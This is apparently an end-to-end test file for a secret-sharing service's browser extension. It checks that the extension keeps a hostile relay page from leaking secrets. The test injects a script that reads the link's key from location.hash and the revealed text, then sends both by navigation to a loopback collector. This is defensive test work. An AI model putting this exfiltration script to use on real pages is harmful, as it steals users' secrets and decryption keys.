// The hostile-page test: a relay whose static folder serves a modified reveal
// page that sends the link's key (location.hash) and the revealed text to a
// collector on loopback. Without the extension the collector gets both, which
// proves the test can fail. With the extension, the link opens in the
// extension's own page: the secret is revealed there, the collector gets
// nothing, and no request for the page (/s/{id}) or its scripts reached the
// relay at all (the front door logs every request before the relay sees it).
// With redirection turned off, the relay's page opens (and steals) as before.
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { t } from '@psst/i18n';
import { strings } from '@psst/reveal-ui/strings';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type LaunchedBrowser, launchChromium } from '../../test-support/browser';
import { createTestSecret, type RunningRelay, startRelay } from '../../test-support/relay';
import {
  artifacts,
  type ExtensionBrowser,
  type FrontDoor,
  launchWithExtension,
  requireBuilds,
  revealDist,
  settledHeading,
  startFrontDoor,
} from './reveal-support';

let relay: RunningRelay;
let door: FrontDoor;
let collector: Server;
let collectorOrigin: string;
const collected: string[] = [];
let hostileDir: string;
let plain: LaunchedBrowser;
let ext: ExtensionBrowser;

/** What the operator adds: a same-origin script (so the relay's CSP lets it run) that leaks by navigating away. */
function hostileScript(collectorUrl: string): string {
  return `(() => {
  const key = location.hash;
  let sent = false;
  const leak = (text) => !sent && (sent = true) && location.replace(${JSON.stringify(collectorUrl)} + '?' + new URLSearchParams({ key, text }));
  new MutationObserver(() => {
    const pre = document.querySelector('.secret pre');
    if (pre) leak(pre.textContent);
  }).observe(document.documentElement, { childList: true, subtree: true });
})();
`;
}

beforeAll(async () => {
  requireBuilds();
  mkdirSync(artifacts, { recursive: true });
  // The collector, which also serves the "chat" page the recipient clicks the link in.
  collector = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    if (url.pathname === '/chat') {
      const link = (url.searchParams.get('link') ?? '').replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`);
      res.setHeader('Content-Type', 'text/html; charset=utf-8');
      res.end(`<!doctype html><title>chat</title><a href="${link}">the link</a>`);
      return;
    }
    if (url.pathname === '/collect') collected.push(req.url ?? '');
    res.end('thanks');
  });
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  collectorOrigin = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;

  hostileDir = mkdtempSync(join(tmpdir(), 'psst-hostile-'));
  cpSync(revealDist, hostileDir, { recursive: true });
  writeFileSync(join(hostileDir, 'assets', 'collect.js'), hostileScript(`${collectorOrigin}/collect`));
  const html = readFileSync(join(hostileDir, 'index.html'), 'utf8');
  const modified = html.replace('<script type="module"', '<script src="/assets/collect.js"></script>\n    <script type="module"');
  expect(modified).not.toBe(html);
  writeFileSync(join(hostileDir, 'index.html'), modified);

  relay = await startRelay({ staticDir: hostileDir });
  door = await startFrontDoor(relay.origin);
  [plain, ext] = await Promise.all([launchChromium(), launchWithExtension()]);
});

afterAll(async () => {
  await Promise.all([plain?.close(), ext?.close()]);
  await door?.close();
  await relay?.stop();
  await new Promise<void>((resolve) => (collector ? collector.close(() => resolve()) : resolve()));
  if (hostileDir) rmSync(hostileDir, { recursive: true, force: true });
});

const keyOf = (link: string) => `#${link.split('#')[1]}`;
const chatWith = (link: string) => `${collectorOrigin}/chat?link=${encodeURIComponent(link)}`;

async function revealIn(page: Page): Promise<void> {
  expect(await settledHeading(page, strings.looking.title)).toBe(strings.waiting.title);
  await page.getByRole('button', { name: strings.waiting.reveal }).click();
}

describe('a relay serving a hostile reveal page', () => {
  it('without the extension, the page sends the key and the text to the collector', async () => {
    const text = 'stolen without the extension';
    const secret = await createTestSecret(door.origin, { text });
    const page = await plain.context.newPage();
    await page.goto(secret.link);
    await revealIn(page);
    await expect.poll(() => collected.length, { timeout: 20_000 }).toBe(1);
    const leaked = new URLSearchParams((collected[0] ?? '').split('?')[1]);
    expect(leaked.get('key')).toBe(keyOf(secret.link));
    expect(leaked.get('text')).toBe(text);
    expect(door.log).toContain(`GET /s/${secret.id}`);
    expect(door.log).toContain('GET /assets/collect.js');
    collected.length = 0;
    await page.close();
  });

  it('with the extension, the link opens in the extension: revealed there, nothing collected, nothing of the page requested', async () => {
    const text = 'kept from the hostile page';
    const secret = await createTestSecret(door.origin, { text });
    door.log.length = 0; // from here on, only what the browser asks
    const page = await ext.context.newPage();
    // A link clicked in another page, as a recipient would (a chat, a mail).
    await page.goto(chatWith(secret.link));
    await page.getByRole('link', { name: 'the link' }).click();
    await page.waitForURL(/^chrome-extension:\/\//);
    expect(page.url()).toBe(`chrome-extension://${ext.extensionId}/reveal.html?link=${door.origin}/s/${secret.id}${keyOf(secret.link)}`);
    await revealIn(page);
    await page.locator('.secret pre').waitFor();
    expect(await page.locator('.secret pre').textContent()).toBe(text);
    expect(await page.getByText(t('revealHost.hostNote')).isVisible()).toBe(true);
    // The key leaves the address bar after the reveal; the link without it stays for the "already revealed" note.
    expect(await page.evaluate(() => location.hash)).toBe('');
    expect(page.url()).toBe(`chrome-extension://${ext.extensionId}/reveal.html?link=${door.origin}/s/${secret.id}`);
    await page.screenshot({ path: join(artifacts, 'reveal-in-extension.png'), fullPage: true });
    await page.waitForTimeout(500); // give a leak every chance to arrive
    expect(collected).toEqual([]);
    expect(door.log).toEqual([`GET /api/secrets/${secret.id}`, `POST /api/secrets/${secret.id}/reveal`]);
    await page.close();
  });

  it('with redirection turned off, the relay’s page opens as before (and leaks)', async () => {
    await ext.setRedirects(false);
    try {
      door.log.length = 0;
      const secret = await createTestSecret(door.origin, { text: 'redirection off' });
      const page = await ext.context.newPage();
      await page.goto(secret.link);
      expect(page.url()).toBe(secret.link);
      await revealIn(page);
      await expect.poll(() => collected.length, { timeout: 20_000 }).toBe(1);
      expect(new URLSearchParams((collected[0] ?? '').split('?')[1]).get('key')).toBe(keyOf(secret.link));
      expect(door.log).toContain(`GET /s/${secret.id}`);
      collected.length = 0;
      await page.close();
    } finally {
      await ext.setRedirects(true);
    }
  });

  it('measures link click → plaintext in the extension (5 links)', async () => {
    const runs: { toWaiting: number; revealToText: number; total: number }[] = [];
    for (let i = 0; i < 5; i++) {
      const secret = await createTestSecret(door.origin, { text: `timed ${i}` });
      const page = await ext.context.newPage();
      await page.goto(chatWith(secret.link));
      const clicked = performance.now();
      await page.getByRole('link', { name: 'the link' }).click();
      const reveal = page.getByRole('button', { name: strings.waiting.reveal });
      await reveal.waitFor({ timeout: 30_000 });
      const waiting = performance.now();
      await reveal.click();
      await page.locator('.secret pre').waitFor({ timeout: 30_000 });
      const shown = performance.now();
      expect(await page.locator('.secret pre').textContent()).toBe(`timed ${i}`);
      runs.push({ toWaiting: waiting - clicked, revealToText: shown - waiting, total: shown - clicked });
      await page.close();
    }
    const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)] as number;
    const summary = {
      runs: runs.map((r) => ({ toWaiting: Math.round(r.toWaiting), revealToText: Math.round(r.revealToText), total: Math.round(r.total) })),
      medianMs: {
        toWaiting: Math.round(median(runs.map((r) => r.toWaiting))),
        revealToText: Math.round(median(runs.map((r) => r.revealToText))),
        total: Math.round(median(runs.map((r) => r.total))),
      },
    };
    writeFileSync(join(artifacts, 'reveal-timing.json'), `${JSON.stringify(summary, null, 2)}\n`);
    console.log('link click → plaintext in the extension (ms):', JSON.stringify(summary));
    expect(collected).toEqual([]);
  });
});
